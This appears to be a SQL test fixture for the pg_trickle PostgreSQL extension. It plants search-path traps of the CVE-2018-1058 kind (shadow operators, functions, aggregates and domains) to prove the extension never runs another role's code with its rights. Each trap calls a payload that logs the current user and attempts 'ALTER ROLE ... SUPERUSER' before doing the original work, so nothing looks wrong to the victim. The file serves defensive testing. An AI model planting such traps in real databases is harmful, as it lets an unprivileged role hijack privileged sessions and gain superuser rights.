-- Search-path traps (the CVE-2018-1058 pattern), shared by the tests that prove pg_trickle
-- never runs another role's code with its own rights (docs/security.md):
-- tests/integration/search_path_test.cpp (SQL entry points, the scheduler, capture) and
-- tests/cli/search_path.bats (every CLI command). Placeholders, replaced by the tests:
-- __SCHEMA__ (the schema the traps go into, owned by __ROLE__), __ROLE__ (an unprivileged
-- role). Run as __ROLE__ with search_path pg_catalog, pg_temp.
--
-- Planted, for everything pg_trickle's SQL (or the CLI's) compares, concatenates or calls: an
-- operator for every binary operator of pg_catalog over the types below, a function for every
-- pg_catalog function over non-pseudo types (and the variadic and set-returning ones used, at
-- the arities used), aggregates, and a domain named like each of those types. Each logs
-- current_user into __SCHEMA__.log (PUBLIC may insert; through dblink in schema pwnlink when
-- the transaction is read-only and dblink is there; the server log in any case), tries to make
-- __ROLE__ a superuser, then does what the original does, so that a victim's statement still
-- succeeds. A session whose search_path puts __SCHEMA__ before pg_catalog resolves
-- unqualified names to the traps; the tests require that no log row names another role than
-- __ROLE__.

SET search_path = pg_catalog, pg_temp;

-- Who ran planted code, what, and from which program (application_name: the tests tag each
-- pgtrickle command with PGAPPNAME). PUBLIC may insert: the victim's session writes here.
CREATE TABLE __SCHEMA__.log (
    who pg_catalog.name NOT NULL,
    what pg_catalog.text NOT NULL,
    app pg_catalog.text NOT NULL,
    at pg_catalog.timestamptz NOT NULL DEFAULT pg_catalog.clock_timestamp(),
    UNIQUE (who, what, app)
);
GRANT USAGE ON SCHEMA __SCHEMA__ TO PUBLIC;
GRANT SELECT, INSERT ON __SCHEMA__.log TO PUBLIC;

-- The payload: log current_user (in this transaction, or, in a read-only one, through a
-- dblink connection of its own when dblink is installed in schema pwnlink), write a LOG line
-- to the server log in any case, and try to make __ROLE__ a superuser.
CREATE FUNCTION __SCHEMA__.pwn(what pg_catalog.text) RETURNS pg_catalog.bool
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $pwn$
DECLARE
    app text := coalesce(current_setting('application_name', true), '');
BEGIN
    RAISE LOG 'planted code ran: who=% what=% app=%', current_user, what, app;
    BEGIN
        INSERT INTO __SCHEMA__.log (who, what, app) VALUES (current_user, what, app)
            ON CONFLICT DO NOTHING;
    EXCEPTION WHEN OTHERS THEN
        BEGIN
            PERFORM pwnlink.dblink_exec(
                format('host=127.0.0.1 port=%s dbname=%s user=%s',
                       current_setting('port'), current_database(), current_user),
                format('INSERT INTO __SCHEMA__.log (who, what, app) VALUES (%L, %L, %L) '
                       'ON CONFLICT DO NOTHING', current_user, what, app));
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END;
    IF current_user OPERATOR(pg_catalog.<>) '__ROLE__' THEN
        BEGIN
            EXECUTE 'ALTER ROLE __ROLE__ SUPERUSER';
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END IF;
    RETURN true;
END
$pwn$;

-- The types whose operators, functions and names are shadowed below.
CREATE FUNCTION __SCHEMA__.shadowed_types() RETURNS pg_catalog.regtype[] LANGUAGE sql IMMUTABLE
SET search_path = pg_catalog, pg_temp AS $$
    SELECT ARRAY['text', 'name', 'oid', 'int2', 'int4', 'int8', 'bool', 'json', 'jsonb',
                 'regclass', 'regproc', 'regprocedure', 'regtype', 'regnamespace', 'pg_lsn',
                 'timestamptz', 'timestamp', 'numeric', 'interval', '"char"', 'xid', 'xid8',
                 'float4', 'float8', 'varchar', 'bpchar', 'bytea', 'pg_snapshot', '_text',
                 '_oid', '_int4', '_int8', '_name', '_jsonb']::regtype[]
$$;

-- Every binary operator of pg_catalog over those types, shadowed by one that logs and then
-- does the real work (so that a victim's statement still succeeds and nobody notices).
DO $ops$
DECLARE
    o record;
    fn text;
    n int := 0;
BEGIN
    FOR o IN
        SELECT op.oid, op.oprname, format_type(op.oprleft, NULL) AS l,
               format_type(op.oprright, NULL) AS r, format_type(op.oprresult, NULL) AS res
        FROM pg_operator op
        WHERE op.oprnamespace = 'pg_catalog'::regnamespace AND op.oprkind = 'b'
          AND op.oprleft = ANY (__SCHEMA__.shadowed_types())
          AND op.oprright = ANY (__SCHEMA__.shadowed_types())
        ORDER BY op.oid
    LOOP
        fn := format('__SCHEMA__.%I', 'op_' || o.oid);
        EXECUTE format(
            'CREATE FUNCTION %s(a %s, b %s) RETURNS %s LANGUAGE plpgsql '
            'SET search_path = pg_catalog, pg_temp AS $f$ BEGIN PERFORM __SCHEMA__.pwn(%L); '
            'RETURN a OPERATOR(pg_catalog.%s) b; END $f$',
            fn, o.l, o.r, o.res, format('operator %s(%s, %s)', o.oprname, o.l, o.r), o.oprname);
        EXECUTE format('CREATE OPERATOR __SCHEMA__.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %s)',
                       o.oprname, o.l, o.r, fn);
        n := n + 1;
    END LOOP;
    RAISE NOTICE 'planted % operators', n;
END
$ops$;

-- Functions of pg_catalog (not polymorphic, no pseudo-type argument such as internal,
-- cstring or "any", one result), each shadowed by one that logs and calls the original.
-- Variadic "any" functions the CLI calls (format, to_jsonb) get shadows with the argument
-- types of its calls, which the parser prefers to the variadic original.
DO $fns$
DECLARE
    f record;
    args text;
    params text;
    ret text;
    body text;
    n int := 0;
    skipped int := 0;
BEGIN
    FOR f IN
        SELECT p.oid, p.proname, p.prorettype, p.proargtypes::oid[] AS argtypes
        FROM pg_proc p JOIN pg_type rt ON rt.oid = p.prorettype
        WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f'
          AND NOT p.proretset AND p.provariadic = 0 AND p.proallargtypes IS NULL
          AND (rt.typtype <> 'p' OR p.prorettype = 'void'::regtype)
          AND NOT EXISTS (SELECT 1 FROM unnest(p.proargtypes) a JOIN pg_type t ON t.oid = a
                          WHERE t.typtype = 'p')
        ORDER BY p.oid
    LOOP
        SELECT string_agg(format_type(u.a, NULL), ', ' ORDER BY u.i),
               string_agg('$' || u.i, ', ' ORDER BY u.i)
        INTO args, params
        FROM unnest(f.argtypes) WITH ORDINALITY AS u(a, i);
        args := coalesce(args, '');
        params := coalesce(params, '');
        ret := format_type(f.prorettype, NULL);
        body := format('PERFORM __SCHEMA__.pwn(%L); ', format('function %s(%s)', f.proname, args));
        IF f.prorettype = 'void'::regtype THEN
            body := body || format('PERFORM pg_catalog.%I(%s);', f.proname, params);
        ELSE
            body := body || format('RETURN pg_catalog.%I(%s);', f.proname, params);
        END IF;
        BEGIN
            EXECUTE format('CREATE FUNCTION __SCHEMA__.%I(%s) RETURNS %s LANGUAGE plpgsql '
                           'SET search_path = pg_catalog, pg_temp AS $f$ BEGIN %s END $f$',
                           f.proname, args, ret, body);
            n := n + 1;
        EXCEPTION WHEN OTHERS THEN
            skipped := skipped + 1;
        END;
    END LOOP;
    CREATE FUNCTION __SCHEMA__.format(text, name, name) RETURNS text LANGUAGE plpgsql
        SET search_path = pg_catalog, pg_temp
        AS $f$ BEGIN PERFORM __SCHEMA__.pwn('function format(text, name, name)');
               RETURN format($1, $2, $3); END $f$;
    CREATE FUNCTION __SCHEMA__.format(text, text, text) RETURNS text LANGUAGE plpgsql
        SET search_path = pg_catalog, pg_temp
        AS $f$ BEGIN PERFORM __SCHEMA__.pwn('function format(text, text, text)');
               RETURN format($1, $2, $3); END $f$;
    CREATE FUNCTION __SCHEMA__.format(text, text) RETURNS text LANGUAGE plpgsql
        SET search_path = pg_catalog, pg_temp
        AS $f$ BEGIN PERFORM __SCHEMA__.pwn('function format(text, text)');
               RETURN format($1, $2); END $f$;
    CREATE FUNCTION __SCHEMA__.to_jsonb(pgtrickle.pgt_stream_tables) RETURNS jsonb LANGUAGE plpgsql
        SET search_path = pg_catalog, pg_temp
        AS $f$ BEGIN PERFORM __SCHEMA__.pwn('function to_jsonb(pgt_stream_tables)');
               RETURN to_jsonb($1); END $f$;
    CREATE FUNCTION __SCHEMA__.concat(text, text) RETURNS text LANGUAGE plpgsql
        SET search_path = pg_catalog, pg_temp
        AS $f$ BEGIN PERFORM __SCHEMA__.pwn('function concat(text, text)');
               RETURN concat($1, $2); END $f$;
    CREATE FUNCTION __SCHEMA__.jsonb_build_object(text, text) RETURNS jsonb LANGUAGE plpgsql
        SET search_path = pg_catalog, pg_temp
        AS $f$ BEGIN PERFORM __SCHEMA__.pwn('function jsonb_build_object(text, text)');
               RETURN jsonb_build_object($1, $2); END $f$;
    CREATE FUNCTION __SCHEMA__.jsonb_build_object(text, jsonb) RETURNS jsonb LANGUAGE plpgsql
        SET search_path = pg_catalog, pg_temp
        AS $f$ BEGIN PERFORM __SCHEMA__.pwn('function jsonb_build_object(text, jsonb)');
               RETURN jsonb_build_object($1, $2); END $f$;
    CREATE FUNCTION __SCHEMA__.unnest(text[]) RETURNS SETOF text LANGUAGE plpgsql
        SET search_path = pg_catalog, pg_temp
        AS $f$ BEGIN PERFORM __SCHEMA__.pwn('function unnest(text[])');
               RETURN QUERY SELECT unnest($1); END $f$;
    CREATE FUNCTION __SCHEMA__.unnest(oid[]) RETURNS SETOF oid LANGUAGE plpgsql
        SET search_path = pg_catalog, pg_temp
        AS $f$ BEGIN PERFORM __SCHEMA__.pwn('function unnest(oid[])');
               RETURN QUERY SELECT unnest($1); END $f$;
    CREATE FUNCTION __SCHEMA__.unnest(bigint[]) RETURNS SETOF bigint LANGUAGE plpgsql
        SET search_path = pg_catalog, pg_temp
        AS $f$ BEGIN PERFORM __SCHEMA__.pwn('function unnest(bigint[])');
               RETURN QUERY SELECT unnest($1); END $f$;
    CREATE FUNCTION __SCHEMA__.generate_series(bigint, bigint) RETURNS SETOF bigint
        LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp
        AS $f$ BEGIN PERFORM __SCHEMA__.pwn('function generate_series(bigint, bigint)');
               RETURN QUERY SELECT generate_series($1, $2); END $f$;
    CREATE FUNCTION __SCHEMA__.array_upper(text[], integer) RETURNS integer LANGUAGE plpgsql
        SET search_path = pg_catalog, pg_temp
        AS $f$ BEGIN PERFORM __SCHEMA__.pwn('function array_upper(text[], integer)');
               RETURN array_upper($1, $2); END $f$;
    RAISE NOTICE 'planted % functions (% could not be shadowed)', n + 12, skipped;
END
$fns$;

-- Aggregates: name, argument types (NULL: *), state type, the step as an expression over the
-- state s and the arguments x (and y), initial state.
DO $aggs$
DECLARE
    a record;
    sf text;
    n int := 0;
BEGIN
    FOR a IN
        SELECT * FROM (VALUES
            ('count', NULL, 'int8', 's + 1', '0'),
            ('count', 'text', 'int8', 's + 1', '0'),
            ('sum', 'int4', 'int8', 'coalesce(s, 0) + x', NULL),
            ('sum', 'int8', 'numeric', 'coalesce(s, 0) + x', NULL),
            ('sum', 'numeric', 'numeric', 'coalesce(s, 0) + x', NULL),
            ('sum', 'float8', 'float8', 'coalesce(s, 0) + x', NULL),
            ('min', 'text', 'text', 'least(s, x)', NULL),
            ('min', 'int4', 'int4', 'least(s, x)', NULL),
            ('min', 'int8', 'int8', 'least(s, x)', NULL),
            ('min', 'timestamptz', 'timestamptz', 'least(s, x)', NULL),
            ('min', 'pg_lsn', 'pg_lsn', 'least(s, x)', NULL),
            ('max', 'text', 'text', 'greatest(s, x)', NULL),
            ('max', 'int4', 'int4', 'greatest(s, x)', NULL),
            ('max', 'int8', 'int8', 'greatest(s, x)', NULL),
            ('max', 'timestamptz', 'timestamptz', 'greatest(s, x)', NULL),
            ('max', 'pg_lsn', 'pg_lsn', 'greatest(s, x)', NULL),
            ('string_agg', 'text, text', 'text',
             'CASE WHEN s IS NULL THEN x ELSE s || y || x END', NULL),
            ('array_agg', 'text', 'text[]', 'array_append(s, x)', NULL),
            ('array_agg', 'name', 'name[]', 'array_append(s, x)', NULL),
            ('array_agg', 'int8', 'int8[]', 'array_append(s, x)', NULL),
            ('jsonb_agg', 'jsonb', 'jsonb', 'coalesce(s, ''[]'') || jsonb_build_array(x)', NULL),
            ('jsonb_agg', 'text', 'jsonb', 'coalesce(s, ''[]'') || jsonb_build_array(x)', NULL),
            ('jsonb_object_agg', 'text, int8', 'jsonb',
             'coalesce(s, ''{}'') || jsonb_build_object(x, y)', NULL),
            ('jsonb_object_agg', 'text, text', 'jsonb',
             'coalesce(s, ''{}'') || jsonb_build_object(x, y)', NULL),
            ('jsonb_object_agg', 'text, jsonb', 'jsonb',
             'coalesce(s, ''{}'') || jsonb_build_object(x, y)', NULL),
            ('bool_or', 'bool', 'bool', 'coalesce(s, false) OR x', NULL),
            ('bool_and', 'bool', 'bool', 'coalesce(s, true) AND x', NULL)
        ) v(name, args, stype, step, init)
    LOOP
        n := n + 1;
        sf := format('__SCHEMA__.%I', 'agg_' || a.name || '_' || n);
        EXECUTE format(
            'CREATE FUNCTION %s(s %s%s) RETURNS %s LANGUAGE plpgsql '
            'SET search_path = pg_catalog, pg_temp AS $f$ BEGIN PERFORM __SCHEMA__.pwn(%L); '
            'RETURN %s; END $f$',
            sf, a.stype,
            CASE WHEN a.args IS NULL THEN ''
                 WHEN a.args LIKE '%,%' THEN ', x ' || split_part(a.args, ',', 1) || ', y '
                                             || split_part(a.args, ',', 2)
                 ELSE ', x ' || a.args END,
            a.stype, format('aggregate %s(%s)', a.name, coalesce(a.args, '*')), a.step);
        EXECUTE format('CREATE AGGREGATE __SCHEMA__.%I(%s) (SFUNC = %s, STYPE = %s%s)',
                       a.name, coalesce(a.args, '*'), sf, a.stype,
                       CASE WHEN a.init IS NULL THEN ''
                            ELSE format(', INITCOND = %L', a.init) END);
    END LOOP;
    RAISE NOTICE 'planted % aggregates', n;
END
$aggs$;

-- Domains named like the built-in types, whose CHECK runs the payload: a cast such as
-- x::text or '{}'::jsonb under the poisoned search_path becomes a call of __SCHEMA__.pwn.
DO $doms$
DECLARE
    t record;
BEGIN
    FOR t IN SELECT x AS oid, format_type(x, NULL) AS base,
                    (SELECT typname FROM pg_type WHERE oid = x) AS typname
             FROM unnest(__SCHEMA__.shadowed_types()) x
    LOOP
        EXECUTE format('CREATE DOMAIN __SCHEMA__.%I AS %s CHECK (__SCHEMA__.pwn(%L))',
                       t.typname, t.base, 'domain __SCHEMA__.' || t.typname);
    END LOOP;
END
$doms$;
